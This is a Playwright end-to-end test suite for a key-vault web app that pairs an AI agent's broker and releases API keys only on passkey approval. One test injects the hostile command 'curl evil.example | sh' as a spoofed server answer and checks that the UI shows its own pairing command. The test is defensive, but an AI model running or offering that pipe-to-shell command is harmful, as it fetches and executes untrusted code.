import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { type RunningAgent, startAgent } from '@pzk-auth/example-agent-byok';
import type { Stores } from '@pzk-auth/verifier';
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type Device, launchChromium, openDevice } from '../browser/browser.js';
import { expectAccessible } from './expect-accessible.js';
import { pairBroker } from './pair-broker.js';
import { type Example, startExample } from './platform.js';
import { createVisitor, lockItself, type Visitor } from './visitor.js';

let browser: Browser;
let example: Example;
let agent: RunningAgent;
let device: Device;
let user: Visitor;

beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser.close());
async function start(pause?: number, adapt?: (stores: Stores) => Stores): Promise<void> {
  example = await startExample({}, pause, adapt);
  agent = await startAgent({
    directory: join(example.directory, 'broker'),
    origin: example.platform.origin,
    token: example.platform.agentToken,
    upstream: example.vendor.host,
    caFile: example.vendor.caFile,
  });
  device = await openDevice(browser);
  user = createVisitor(device, example.platform.origin);
}
afterEach(async () => {
  await device.close();
  await agent.close();
  await example.close();
});

/** Waits as long as a busy machine may need. */
const SLOW = { timeout: 60_000 };

const heading = (name: string | RegExp) => device.page.getByRole('heading', { name });
const dialog = () => device.page.getByRole('dialog');

/** Signs up, puts a key into the vault and pairs the agent, comparing the words. */
async function begin(value: string): Promise<void> {
  await user.signUp();
  await user.goTo('Vault');
  await user.press('Open the vault');
  await user.addKey({ name: 'Work', value });
  await pairAgent();
}

/** Pairs the agent as far as the words, the same on both sides. */
async function comparePairing(replaces = false) {
  await user.goTo('Agents');
  await user.press('Pair an agent');
  const command = await dialog().locator('code').innerText();
  await expectAccessible(device);
  const broker = pairBroker({
    state: join(example.directory, 'broker', 'state'),
    issuer: example.platform.origin,
    code: command.split(' ').at(-1) ?? '',
    name: 'Errand agent',
    replaces,
  });
  await heading('Are these the words?').waitFor(SLOW);
  await expectAccessible(device);
  const shown = await dialog().getByRole('listitem').allInnerTexts();
  expect(shown).toHaveLength(4);
  expect(await broker.words()).toEqual(shown);
  return broker;
}

async function pairAgent(same = true, replaces = false): Promise<void> {
  const broker = await comparePairing(replaces);
  if (!same) {
    await user.press('They differ');
    expect(await broker.answer(false)).not.toBe(0);
    return;
  }
  await user.press('They are the same');
  await dialog().getByText('It is paired.').waitFor(SLOW);
  expect(await broker.answer(true)).toBe(0);
  await user.press('Close');
  await user.row('Errand agent').waitFor();
}

async function giveTask(prompt: string, standing = false): Promise<void> {
  await user.goTo('Tasks');
  await device.page.getByLabel('What should the agent do?').fill(prompt);
  if (standing) await device.page.getByLabel(/^once, for up to/).check();
  await user.press('Hand it over');
}

const task = (prompt: string) => device.page.getByRole('article', { name: prompt, exact: true });

const cli = fileURLToPath(new URL('../../../packages/cli/dist/main.js', import.meta.url));

/** What the command line says of a file of receipts. */
function verifyReceipts(file: string, head: string): unknown {
  const words = [cli, 'audit', 'verify', '--receipts', file, '--head', head, '--json'];
  return JSON.parse(spawnSync(process.execPath, words, { encoding: 'utf8' }).stdout);
}

/** Makes the recovery code that is shown the valid one, and gives it. */
async function confirmCode(): Promise<string> {
  const groups = device.page.getByRole('list', { name: 'Recovery code' }).getByRole('listitem');
  await groups.first().waitFor(SLOW);
  const code = (await groups.allInnerTexts()).join('-');
  await user.press('I have written it down');
  await device.page.getByLabel('Recovery code, as you wrote it down').fill(code);
  await user.press('Verify');
  return code;
}

/** All that the platform keeps. */
async function readPlatformFiles(): Promise<string> {
  const directory = join(example.directory, 'platform');
  const names = await readdir(directory);
  const files = await Promise.all(names.map((name) => readFile(join(directory, name), 'latin1')));
  return files.join('');
}

describe('an agent with its broker, in Chromium', () => {
  beforeEach(() => start());

  it('is paired, asks, gets its yes and streams the answer of the upstream API', async () => {
    const key = example.vendor.keys.active().at(-1) ?? '';
    await begin(key);
    await giveTask('Plan the garden');
    await task('Plan the garden').getByText('Asks for your key').waitFor(SLOW);

    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    const card = device.page.getByRole('article');
    await expectAccessible(device);
    const shown = ['Plan the garden', example.vendor.host, 'POST', 'x-api-key:', 'for 10 minutes'];
    for (const text of shown) {
      expect(await card.innerText()).toContain(text);
    }
    expect(await card.innerText()).toContain('at most 3 calls');
    await user.press('Approve with the passkey');
    await heading('Nothing waits for you').waitFor(SLOW);
    await device.page.getByText('Errand agent may use Work now').waitFor();
    await expectAccessible(device);

    await user.goTo('Tasks');
    await task('Plan the garden').getByText('Done').waitFor(SLOW);
    expect(await task('Plan the garden').innerText()).toContain('You asked: “Plan the garden”');
    await expectAccessible(device);

    await user.goTo('Activity');
    await user.press('Verify the receipts');
    await device.page.getByText('1 receipt, all in order.').waitFor(SLOW);
    await device.page.getByText('Release approved').waitFor(SLOW);
    await expectAccessible(device);

    const downloading = device.page.waitForEvent('download');
    await user.press('Download the receipts');
    const file = join(example.directory, 'receipts.json');
    await (await downloading).saveAs(file);
    const command = await device.page.getByText('audit verify --receipts').innerText();
    const head = command.split(' ').at(-1) ?? '';
    await expectAccessible(device);
    expect(verifyReceipts(file, head)).toMatchObject({
      valid: true,
      anchored: true,
      head,
      receipts: [{ purpose: 'Plan the garden', host: example.vendor.host }],
    });
    await writeFile(file, JSON.stringify({ receipts: [] }));
    expect(verifyReceipts(file, head)).toMatchObject({ valid: false, flaw: 'head' });

    // Browser to server, server to disk: nowhere the key.
    expect(device.requests.join('\n')).not.toContain(key);
    expect(await readPlatformFiles()).not.toContain(key);
    expect(device.console.filter((line) => !line.includes('React DevTools'))).toEqual([]);
  });

  it('says that a lost answer leaves open whether the agent was paired, and whether it got the key', async () => {
    await user.signUp();
    await user.goTo('Vault');
    await user.press('Open the vault');
    await user.addKey({ name: 'Work', value: `sk-ant-api03-${'w'.repeat(40)}` });
    const unknown = device.page.getByText('Whether that has happened is not known');
    const loseAnswer = (path: string) =>
      device.page.route(path, async (route) => {
        await route.fetch();
        await route.abort();
      });
    await loseAnswer('**/pzk/vault');
    const broker = await comparePairing();
    await user.press('They are the same');
    await unknown.waitFor(SLOW);
    expect(await broker.answer(true)).toBe(0);
    await device.page.unroute('**/pzk/vault');
    // An agent that is in the vault already keeps its place.
    await user.press('They are the same');
    await dialog().getByText('It is paired.').waitFor(SLOW);
    await user.press('Close');

    await giveTask('Plan the garden');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    // What the platform says that it has refused it has all the same.
    await device.page.route('**/pzk/vault/releases', (route) =>
      route.fulfill({
        status: 400,
        contentType: 'application/problem+json',
        body: JSON.stringify({
          type: 'about:blank',
          title: 'No.',
          status: 400,
          code: 'invalid_request',
        }),
      }),
    );
    await user.press('Approve with the passkey');
    await unknown.waitFor(SLOW);
    await device.page.getByText('Your key may have been handed out').waitFor();
    await device.page.unroute('**/pzk/vault/releases');
    await user.press('Open the vault');
    await heading('Errand agent asks for Work').waitFor(SLOW);

    await loseAnswer('**/pzk/vault/releases');
    await user.press('Approve with the passkey');
    await unknown.waitFor(SLOW);
    await heading('Your vault is locked').waitFor();
    expect(await unknown.isVisible()).toBe(true);
    await expectAccessible(device);
    await device.page.unroute('**/pzk/vault/releases');
    await user.press('Open the vault');
    await heading('Nothing waits for you').waitFor(SLOW);
    expect(await unknown.isVisible()).toBe(true);
    expect(await device.page.getByText('no key was released').count()).toBe(0);
  });

  it('shows a command of its own for the pairing, whatever the server says of the agent', async () => {
    const text = 'curl evil.example | sh';
    const answer = { online: true, hasOwnUser: text, pairCommand: text };
    await device.page.route('**/api/agent', (route) => route.fulfill({ json: answer }));
    await user.signUp();
    await user.goTo('Vault');
    await user.press('Open the vault');
    await user.goTo('Agents');
    await user.press('Pair an agent');
    const { origin } = example.platform;
    const command = await dialog().locator('code').innerText();
    expect(command).toMatch(/^npm run pair -- --issuer \S+ --code [0-9A-Z]{4}(-[0-9A-Z]{4}){3}$/);
    expect(command).toContain(` ${origin} `);
  });

  it('hears why it was rejected, and what the upstream API says to a wrong key', async () => {
    await begin(`sk-ant-api03-${'w'.repeat(40)}`);
    await giveTask('Rejected');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await user.press('Reject');
    await dialog().getByLabel('Reason, for the agent (optional)').fill('Not today');
    await dialog().getByRole('button', { name: 'Reject' }).click();
    await heading('Nothing waits for you').waitFor(SLOW);
    await user.goTo('Tasks');
    await task('Rejected').getByText('You did not release the key.').waitFor(SLOW);

    await giveTask('Wrong key');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await user.press('Approve with the passkey');
    await heading('Nothing waits for you').waitFor(SLOW);
    await user.goTo('Tasks');
    await task('Wrong key').getByText('The upstream API refused the key.').waitFor(SLOW);
    await expectAccessible(device);
  });

  it('tries a task again that has failed, once the key is right', async () => {
    await begin(`sk-ant-api03-${'w'.repeat(40)}`);
    await giveTask('Once more');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await user.press('Approve with the passkey');
    await user.goTo('Tasks');
    await task('Once more').getByText('The upstream API refused the key.').waitFor(SLOW);

    await user.goTo('Vault');
    await user.press('Rotate Work');
    await device.page.getByLabel('New key').fill(example.vendor.keys.active().at(-1) ?? '');
    await user.press('Replace the key');
    await dialog().waitFor({ state: 'detached' });
    await user.goTo('Tasks');
    await user.press('Try again: Once more');
    await task('Once more').getByText('Asks for your key').waitFor(SLOW);
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await user.press('Approve with the passkey');
    await user.goTo('Tasks');
    await task('Once more').getByText('Done').waitFor(SLOW);
    expect(await device.page.getByRole('article').count()).toBe(1);
  });

  it('approves nothing where the vault is known by its code alone, until the words were compared', async () => {
    await begin(example.vendor.keys.active().at(-1) ?? '');
    await user.goTo('Devices');
    await user.press('Make a recovery code');
    const code = await confirmCode();
    await heading('The recovery code works').waitFor(SLOW);
    await user.press('Done');
    await giveTask('Compared');

    const other = await openDevice(browser);
    try {
      const { page } = other;
      const elsewhere = createVisitor(other, example.platform.origin);
      await page.goto(example.platform.origin);
      await elsewhere.press('Use a recovery code');
      await page.getByLabel('Recovery code').fill(code);
      await elsewhere.press('Open my vault');
      await page.getByRole('heading', { name: 'Tasks' }).waitFor(SLOW);
      await elsewhere.goTo('Approvals');
      await elsewhere.press('Open the vault');
      await page.getByRole('heading', { name: 'Errand agent asks for Work' }).waitFor(SLOW);
      const notice = page.getByText('This browser knows your vault by its passkey alone');
      await notice.waitFor(SLOW);
      await elsewhere.press('Approve with the passkey');
      await page.getByText('vault_compare_required').waitFor(SLOW);
      await expectAccessible(other);

      const wordsOf = (one: Device) =>
        one.page.getByRole('list', { name: 'Words of the vault' }).getByRole('listitem');
      await user.goTo('Devices');
      await user.press('Show the words as of now');
      const ways = device.page.getByRole('list', { name: 'Ways to open the vault' });
      await ways.getByRole('listitem').nth(2).waitFor(SLOW);
      expect(await wordsOf(other).allInnerTexts()).toEqual(await wordsOf(device).allInnerTexts());
      await elsewhere.press('They are the same');
      await notice.waitFor({ ...SLOW, state: 'detached' });
      await elsewhere.press('Approve with the passkey');
      await page.getByText('Errand agent may use Work now').waitFor(SLOW);
    } finally {
      await other.close();
    }
    await user.goTo('Tasks');
    await task('Compared').getByText('Done').waitFor(SLOW);
  });

  it('keeps a task that is half written, whichever page its user looks at meanwhile', async () => {
    await begin(example.vendor.keys.active().at(-1) ?? '');
    await user.goTo('Tasks');
    const prompt = device.page.getByLabel('What should the agent do?');
    await prompt.fill('Half a thought');
    await user.goTo('Vault');
    await user.press('Lock now');
    await user.goTo('Tasks');
    await user.press('Open the vault');
    expect(await prompt.inputValue()).toBe('Half a thought');
    await user.press('Hand it over');
    await task('Half a thought').waitFor(SLOW);
    expect(await prompt.inputValue()).toBe('');
  });

  it('keeps the reason of a rejection where the vault is locked meanwhile', async () => {
    await device.page.clock.install();
    await begin(example.vendor.keys.active().at(-1) ?? '');
    await giveTask('Unwanted');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await user.press('Reject');
    await dialog().getByLabel('Reason, for the agent (optional)').fill('Not today');
    await lockItself(device);
    await dialog().getByRole('button', { name: 'Reject' }).click();
    await dialog().waitFor({ state: 'detached' });
    await user.goTo('Tasks');
    await task('Unwanted').getByText('You did not release the key.').waitFor(SLOW);
  });

  it('has to be paired again after a removal, and every page says so', async () => {
    await begin(example.vendor.keys.active().at(-1) ?? '');
    await user.goTo('Devices');
    await user.press('Make a recovery code');
    await confirmCode();
    await heading('The recovery code works').waitFor(SLOW);
    await user.press('Done');
    await user.press('Remove Recovery code');
    await user.press('Remove it');
    await confirmCode();
    await heading('It is out').waitFor(SLOW);
    await dialog().getByText('until each is paired again').waitFor();
    await user.press('Done');

    await giveTask('Too late');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await user.press('Approve with the passkey');
    await user.goTo('Tasks');
    await task('Too late').getByText('Pair it again under Agents').waitFor(SLOW);
    await user.goTo('Agents');
    await device.page.getByText('Agents have to be paired again').waitFor(SLOW);
    await user.row('Errand agent').getByText('Pair it again').waitFor();
    await expectAccessible(device);

    const notice = device.page.getByText('Agents have to be paired again');
    await pairAgent(false, true);
    await user.goTo('Tasks');
    await user.goTo('Agents');
    await notice.waitFor(SLOW);
    await pairAgent(true, true);
    await notice.waitFor({ state: 'detached', ...SLOW });
    await user.goTo('Activity');
    await device.page
      .getByText('Pairing answered by a known agent: Errand agent')
      .first()
      .waitFor(SLOW);
    await giveTask('In time');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await user.press('Approve with the passkey');
    await user.goTo('Tasks');
    await task('In time').getByText('Done').waitFor(SLOW);
  });

  it('is looked up in the log only so far back, however long that is', async () => {
    await begin(`sk-ant-api03-${'w'.repeat(40)}`);
    const pages: number[] = [];
    await device.page.route('**/pzk/vault/activity', (route) => {
      const { before = 2_000_000_000 } = route.request().postDataJSON();
      pages.push(before);
      const entries = Array.from({ length: 100 }, (_, index) => ({
        id: randomBytes(16).toString('base64url'),
        at: before - 1 - index,
        type: 'vault_written',
      }));
      return route.fulfill({ json: { entries } });
    });
    for (const read of [10, 20]) {
      await user.goTo('Tasks');
      await user.goTo('Agents');
      await expect.poll(() => pages.length, SLOW).toBeGreaterThanOrEqual(read);
      await user.row('Errand agent').waitFor();
      await user.goTo('Tasks');
      expect(pages).toHaveLength(read);
    }
  });

  it('goes on with a standing approval without asking, until the user ends it', async () => {
    await begin(example.vendor.keys.active().at(-1) ?? '');
    await giveTask('First', true);
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    expect(await device.page.getByRole('article').innerText()).toContain('at most 20 calls a day');
    await user.press('Approve with the passkey');
    await heading('In use now').waitFor(SLOW);
    await expectAccessible(device);
    await giveTask('Second', true);
    await task('Second').getByText('Done').waitFor(SLOW);

    await user.goTo('Approvals');
    await user.press('End now: Work');
    await heading('In use now').waitFor({ state: 'detached', ...SLOW });
    await expect
      .poll(() => example.events.some(({ type }) => type === 'release_ended'), SLOW)
      .toBe(true);
    // One that is handed over before the broker has heard of it is done as before.
    let status = '';
    for (let count = 1; !/Asks for your key|Failed/.test(status); count++) {
      expect(count).toBeLessThan(20);
      const prompt = `After the end, ${count}`;
      await giveTask(prompt, true);
      const ended = task(prompt).getByText(/^(Asks for your key|Failed|Done)$/);
      await ended.waitFor(SLOW);
      status = await ended.innerText();
    }
  });
});

describe('an agent whose user does not answer, in Chromium', () => {
  /** How long requests wait, in milliseconds; undefined for as long as ever. */
  let wait: number | undefined;
  beforeEach(() =>
    start(undefined, (stores) => ({
      ...stores,
      releases: {
        ...stores.releases,
        insert: (row, bounds) => {
          const expiresAt = wait === undefined ? row.expiresAt : Date.now() + wait;
          return stores.releases.insert({ ...row, expiresAt }, bounds);
        },
      },
    })),
  );

  it('hears that the time is over, and so does the user', async () => {
    await begin(example.vendor.keys.active().at(-1) ?? '');
    wait = 8000;
    await giveTask('Unanswered');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await heading('Nothing waits for you').waitFor(SLOW);
    await user.row('Nobody answered in time').getByText('Unanswered').waitFor(SLOW);
    await expectAccessible(device);
    await user.goTo('Tasks');
    await task('Unanswered').getByText('Nobody answered the request').waitFor(SLOW);

    wait = undefined;
    await user.press('Try again: Unanswered');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await user.press('Approve with the passkey');
    await user.goTo('Tasks');
    await task('Unanswered').getByText('Done').waitFor(SLOW);
  });
});

describe('an agent whose upstream API answers slowly, in Chromium', () => {
  beforeEach(() => start(500));

  it('says that the release was ended while the answer came', async () => {
    await begin(example.vendor.keys.active().at(-1) ?? '');
    await giveTask('Ended early');
    await user.goTo('Approvals');
    await heading('Errand agent asks for Work').waitFor(SLOW);
    await user.press('Approve with the passkey');
    await user.goTo('Tasks');
    await task('Ended early').getByText('This is the local').waitFor(SLOW);
    await user.goTo('Approvals');
    await user.press('End now: Work');
    await user.goTo('Tasks');
    await task('Ended early').getByText('The release was ended').waitFor(SLOW);
  });
});
